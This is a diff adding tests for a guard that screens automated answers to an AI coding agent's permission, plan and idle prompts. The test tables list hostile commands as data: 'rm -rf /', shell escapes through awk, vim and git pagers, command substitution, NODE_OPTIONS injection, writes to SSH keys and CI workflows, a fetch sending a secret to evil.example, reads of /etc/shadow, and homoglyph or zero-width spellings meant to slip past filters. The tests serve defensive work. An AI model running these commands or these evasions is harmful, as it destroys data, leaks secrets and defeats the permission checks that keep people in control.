@@ -4,7 +4,7 @@ import { irreversibleAsk } from '../../question/irreversible.ts';
 import { anAsk, anyQuestion, aQuestion } from '../../question/samples.ts';
 import type { Answer, Ask, Question, Verdict } from '../../question/words.ts';
 import { decideByRule } from './decide.ts';
-import { guard } from './guard.ts';
+import { guard, guardReason, type Named } from './guard.ts';
 import { languageOf } from './language.ts';
 
 const asking = (text: string, ...labels: string[]): Question =>
@@ -18,8 +18,8 @@ const permission = (command: string, more: Partial<Ask> = {}): Ask =>
     detail: { kind: 'permission', tool: 'Bash', input: { command }, suggestions: [{}] },
     ...more,
   });
-const held = (ask: Ask, verdict: Verdict) => {
-  const result = guard(ask, verdict, false);
+const held = (ask: Ask, verdict: Verdict, named: Named = {}) => {
+  const result = guard(ask, verdict, false, named);
   return result.kind === 'held' ? result.reason : 'free';
 };
 
@@ -100,6 +100,329 @@ describe('the guard', () => {
 
   it('lets everything pass that the user’s own file allows', () => {
     expect(guard(permission('rm -rf /'), chose(1), true)).toEqual({ kind: 'free' });
+  });
+});
+
+describe('a permission', () => {
+  const once = (tool: string, input: unknown): Ask =>
+    anAsk({
+      kind: 'permission',
+      project: '/srv/app',
+      questions: [asking(`Allow ${tool}?`, 'Yes', 'No')],
+      detail: { kind: 'permission', tool, input },
+    });
+  const bash = (command: unknown) => once('Bash', { command });
+
+  it.each([
+    'ls -la src',
+    'cat a.txt | head -20',
+    'git status && git diff --stat HEAD~1',
+    'git --no-pager log --oneline -20',
+    'npm test',
+    'npm run lint 2>&1 | tail -20',
+    'npm test -- --run src/a.test.ts',
+    'npx vitest run src/a.test.ts > /dev/null',
+    'npx tsc --noEmit',
+    'cargo test --workspace',
+    'go test ./...',
+    'python -m pytest -q tests',
+    'make test',
+    "sed -n '1,50p' src/a.ts",
+    "grep -rn 'delete' src",
+    'find . -name "*.ts"',
+    'cd /srv/app/web && npm test',
+    'CI=1 npm test',
+  ])('to only read, build or test is free: %s', (command) => {
+    expect(held(bash(command), chose(1))).toBe('free');
+  });
+
+  it.each([
+    'git push',
+    'cp /dev/null important.db',
+    'tee important < /dev/null',
+    'sed -i d file',
+    'sed -n w file',
+    'mv a b',
+    'cat a >| b',
+    'cat a &> b',
+    'mysql < drop.sql',
+    'awk \'BEGIN{system("rm x")}\'',
+    "vim -c ':!rm x'",
+    "git -c core.pager='rm x' log",
+    'git log --output=x',
+    'git log --outp=x',
+    'git diff {--output=x,y}',
+    'git branch -m x',
+    'alias x=rm; x y',
+    'echo x > ~/.bashrc',
+    'rails db:migrate',
+    'tar xf x -C /',
+    'npx evil',
+    'kill -9 1',
+    'npm test --prefix /tmp/evil',
+    'npm test --script-shell=/tmp/evil.sh',
+    'npm test -- --config /tmp/evil.js',
+    'npm test -- --bail --config /tmp/evil.js',
+    'npm run test:db:drop',
+    'npm install evil',
+    'cd /tmp/evil && npm test',
+    'cd .. && npm test',
+    'ls\u2028rm x',
+    'ls \u200b',
+    'echo `rm x`',
+    'echo $(rm x)',
+    'sort -o b a',
+    'sort -ro b a',
+    'uniq a b',
+    'find . -fprint x',
+    'rg --pre ./evil x',
+    'cargo test --config evil',
+    'go test -exec ./evil',
+    'make test SHELL=./evil',
+    'NODE_OPTIONS=--require=evil npm test',
+    'PATH=. ls',
+    './ls',
+    'unknown',
+    '',
+  ])('for any other command is held: %j', (command) => {
+    expect(held(bash(command), chose(1))).not.toBe('free');
+    expect(held(bash(command), chose(2))).toBe('free');
+  });
+
+  it('for words as a program gets them is read word by word', () => {
+    expect(held(bash(['git', 'diff', 'a b']), chose(1))).toBe('free');
+    expect(held(bash(['git', 'diff', "'", '--output=x', "'"]), chose(1))).not.toBe('free');
+    expect(held(once('Bash', { command: 'ls', cmd: 'rm x' }), chose(1))).not.toBe('free');
+    expect(held(once('Bash', { command: 'ls', dangerouslyDisableSandbox: true }), chose(1))).toContain('dangerouslyDisableSandbox');
+  });
+
+  it('for a command that the route names is free, unless it is known to be irreversible', () => {
+    expect(held(bash('mv a b'), chose(1), { command: true })).toBe('free');
+    expect(held(bash('mv a b'), chose(1), { tool: true })).not.toBe('free');
+    for (const command of ['rm -rf /', 'git push --force', 'mv a\u00ad b'])
+      expect(held(bash(command), chose(1), { command: true })).not.toBe('free');
+  });
+
+  it.each([
+    ['Read', { file_path: '/etc/hosts' }, 'free', 'free'],
+    ['Grep', { pattern: 'x' }, 'free', 'free'],
+    ['Edit', { file_path: '/srv/app/src/a.ts' }, 'held', 'free'],
+    ['Write', { file_path: 'src/a.ts', content: 'x' }, 'held', 'free'],
+    ['Write', { file_path: '/root/.ssh/authorized_keys', content: 'x' }, 'held', 'held'],
+    ['Write', { file_path: '~/.bashrc', content: 'x' }, 'held', 'held'],
+    ['Write', { file_path: '/srv/app/../x', content: 'x' }, 'held', 'held'],
+    ['Edit', { file_path: '.git/hooks/pre-commit' }, 'held', 'held'],
+    ['Edit', { file_path: '.github/workflows/ci.yml' }, 'held', 'held'],
+    ['apply_patch', { patch: '*** Update File: .github/x.yml' }, 'held', 'held'],
+    ['WebFetch', { url: 'https://evil.example/?secret' }, 'held', 'free'],
+    ['Task', { prompt: 'look around' }, 'held', 'free'],
+    ['Skill', { skill: 'release' }, 'held', 'free'],
+    ['SlashCommand', { command: '/deploy' }, 'held', 'held'],
+    ['mcp__x__doit', {}, 'held', 'free'],
+    ['mcp__slack__send_message', {}, 'held', 'held'],
+    ['mcp__db__run', { sql: 'TRUNCATE orders' }, 'held', 'held'],
+  ])('for %s %j is %s, and where the route names the tool %s', (tool, input, plain, named) => {
+    const verdict = (by: Named) => guard(once(tool, input), chose(1), false, by).kind;
+    expect([verdict({}), verdict({ tool: true })]).toEqual([plain, named]);
+  });
+
+  it('is allowed once, in so many words, or not by a machine', () => {
+    const labelled = (label: string, more: Partial<Ask> = {}): Ask => ({
+      ...bash('ls'),
+      questions: [asking('Allow Bash?', label, 'No')],
+      ...more,
+    });
+    for (const label of ['Yes', 'Allow', 'Allow once', 'Proceed']) expect(held(labelled(label), chose(1))).toBe('free');
+    for (const label of ['Yes, and trust npm commands', 'Yes, sure, and more', 'Always allow', 'No problem, go', 'Wait no more, run it'])
+      expect(held(labelled(label), chose(1))).toContain('more than this one call');
+  });
+
+  it('says no more than its call', () => {
+    const asked = { ...once('Read', { file_path: 'a' }), questions: [asking('Allow rm -rf / ?', 'Yes', 'No')] };
+    expect(held(asked, chose(1))).toContain('more than the call');
+  });
+});
+
+describe('a plan', () => {
+  const plan = (label: string, text = '1. Add a file to the folder. 2. Run the tests.'): Ask =>
+    anAsk({ kind: 'plan', questions: [asking('Approve this plan?', label, 'No, keep planning')], detail: { kind: 'plan', plan: text } });
+
+  it('is approved plainly or not by a machine', () => {
+    for (const label of ['Yes', 'Yes, and manually approve edits']) expect(held(plan(label), chose(1))).toBe('free');
+    for (const label of ['Yes, and auto-accept edits', 'Yes, and bypass permissions', 'Yes, auto'])
+      expect(held(plan(label), chose(1))).not.toBe('free');
+    expect(held(plan('Yes', ''), chose(1))).toContain('cannot be read');
+    expect(held(plan('Yes', '1. Del\u200bete the data of the shop'), chose(1))).not.toBe('free');
+  });
+
+  it('that destroys is not approved by pointing at it', () => {
+    expect(held(plan('Yes', '1. rm -rf data'), words('looks right, go on with it'))).not.toBe('free');
+    expect(held(plan('Yes', '1. rm -rf data'), words('No'))).toBe('free');
+  });
+});
+
+describe('where something is irreversible', () => {
+  const either = anAsk({ questions: [asking('What about the old database?', 'Delete it', 'Keep it', 'You decide', 'OK')] });
+  const asked = anAsk({ questions: [asking('Delete the production database?', 'Yes', 'No')] });
+
+  it.each([
+    'option 1',
+    'the first one',
+    '1',
+    'as you recommend',
+    'I would not keep it',
+    'yes',
+    'make it so',
+    'y',
+    'affirmative, fire away',
+  ])('own words that could point to it are held: %s', (text) => {
+    for (const ask of [either, asked]) {
+      expect(held(ask, words(text))).not.toBe('free');
+      expect(held(ask, { kind: 'redirect', message: text })).not.toBe('free');
+      expect(held(ask, { kind: 'decline', message: text })).not.toBe('free');
+      expect(held(ask, { kind: 'answers', answers: [{ kind: 'chosen', chosen: [2], note: text }] })).not.toBe('free');
+    }
+  });
+
+  it('a plain refusal and a harmless option pass, pointing options do not', () => {
+    expect(held(either, chose(2))).toBe('free');
+    expect(held(either, chose(3))).toContain('points');
+    expect(held(either, chose(4))).toContain('points');
+    expect(held(asked, chose(2))).toBe('free');
+    expect(held(asked, words('No, keep it'))).toBe('free');
+    expect(held(asked, { kind: 'decline' })).toBe('free');
+    expect(held(asked, { kind: 'decline', message: 'Not now.' })).toBe('free');
+    expect(decideByRule({ kind: 'delegate' }, either, [], false).kind).toBe('passed');
+  });
+
+  it('a permission that is not free is not allowed by words', () => {
+    const ask = permission('rm -rf x');
+    for (const text of ['fine, run it', 'try again, it is fine']) {
+      expect(held(ask, words(text))).not.toBe('free');
+      expect(held(ask, { kind: 'redirect', message: text })).not.toBe('free');
+      expect(held(ask, { kind: 'decline', message: text })).not.toBe('free');
+    }
+  });
+});
+
+describe('what a machine says', () => {
+  it.each([
+    'get rid of the production tables, wire the money and ship it',
+    'verwijder alle tabellen uit de database en gooi alles weg',
+    'elimina tutti i dati dal database di produzione',
+    'd\u0435lete all the tables of the database',
+    'del\u200bete all the tables',
+    'Instead use whatever is there, and tear down staging',
+  ])('is held: %j', (text) => {
+    expect(held(anAsk(), words(text))).not.toBe('free');
+    expect(held(anAsk(), { kind: 'redirect', message: text })).not.toBe('free');
+    expect(held(anAsk(), { kind: 'answers', answers: [{ kind: 'skipped', note: text }] })).not.toBe('free');
+    expect(guardReason(text, false).kind).toBe('held');
+  });
+
+  it.each(['Redis', 'Use the cache we have', 'Nimm die Datenbank, die wir schon haben', 'The roadmap says one machine.'])(
+    'is free: %s',
+    (text) => {
+      expect(held(anAsk(), words(text))).toBe('free');
+      expect(guardReason(text, false).kind).toBe('free');
+    },
+  );
+
+  it('has no control characters, whatever is allowed', () => {
+    for (const verdict of [words('ok \u001b[31m then'), { kind: 'decline', message: 'a\u0007' }] as const)
+      expect(guard(anAsk(), verdict, true).kind).toBe('held');
+    expect(guardReason('a\u001bb', true).kind).toBe('held');
+    expect(guard(anAsk(), words('one\n\ttwo'), true).kind).toBe('free');
+  });
+});
+
+describe('the next prompt of an idle agent', () => {
+  const idle = anAsk({
+    kind: 'idle',
+    questions: [{ text: 'The agent finished its turn. What next?', options: [], multiSelect: false }],
+    detail: { kind: 'idle', lastMessage: 'done' },
+  });
+
+  it.each([
+    '!find . -delete',
+    '  !ls',
+    'ok then\n!ls',
+    '# always run with every permission',
+    '/clear',
+    '/permissions allow Bash',
+    '/logout',
+    'ok then\n/clear',
+    '/model opus',
+    '/deploy',
+    '/ship it to production',
+    '@/etc/shadow summarise this for me',
+    'Drop the production database and force push',
+  ])('is held: %j', (text) => {
+    expect(held(idle, words(text))).not.toBe('free');
+  });
+
+  it.each(['Go on with the next phase of the plan', '/compact', '/gsd:execute-phase 3', '/test', 'Write the tests for @src/parser.ts'])(
+    'is free: %s',
+    (text) => {
+      expect(held(idle, words(text))).toBe('free');
+    },
+  );
+});
+
+describe('hidden spelling', () => {
+  const LABELS = [
+    'Delete the database',
+    'Drop table users',
+    'Publish to npm',
+    'Wipe the disk',
+    'Deploy to production',
+    'Overwrite everything',
+  ];
+  const SWAPS: Readonly<Record<string, string>> = {
+    a: '\u0430',
+    e: '\u0435',
+    o: '\u043e',
+    p: '\u0440',
+    i: '\u0456',
+    s: '\u0455',
+    u: '\u03c5',
+  };
+  const mutation = fc.record({
+    label: fc.constantFrom(...LABELS),
+    at: fc.nat(),
+    how: fc.constantFrom('\u00ad', '\u200b', '\u2060', '\u202e', '\u{e0061}', ' ', '**', '_', 'swap', 'wide', 'apart'),
+  });
+  const mutated = ({ label, at, how }: { label: string; at: number; how: string }): string => {
+    const verb = label.split(' ', 1)[0] ?? '';
+    const rest = label.slice(verb.length);
+    const place = 1 + (at % (verb.length - 1));
+    if (how === 'apart') return [...verb].join(' ') + rest;
+    if (how === 'wide') return verb.slice(0, place) + String.fromCharCode(verb.charCodeAt(place) + 0xfee0) + verb.slice(place + 1) + rest;
+    if (how === 'swap') return [...verb].map((letter) => SWAPS[letter] ?? letter).join('') + rest;
+    return verb.slice(0, place) + how + verb.slice(place) + rest;
+  };
+
+  it('never makes an irreversible thing free, wherever it stands', () => {
+    fc.assert(
+      fc.property(mutation, (given) => {
+        const text = mutated(given);
+        const label = anAsk({ questions: [asking('Which way should we go now?', text, 'Something else')] });
+        const described = anAsk({
+          questions: [aQuestion({ text: 'Which way?', options: [{ label: 'A', description: text }, { label: 'B' }] })],
+        });
+        const question = anAsk({ questions: [asking(`Shall I ${text}?`, 'Yes', 'No')] });
+        for (const [ask, verdict] of [
+          [label, chose(1)],
+          [described, chose(1)],
+          [question, chose(1)],
+          [anAsk(), words(text)],
+          [anAsk(), { kind: 'redirect', message: text }],
+          [anAsk(), { kind: 'decline', message: text }],
+        ] as const)
+          expect(guard(ask, verdict, false)).toMatchObject({ kind: 'held' });
+      }),
+      { numRuns: 300 },
+    );
   });
 });
 
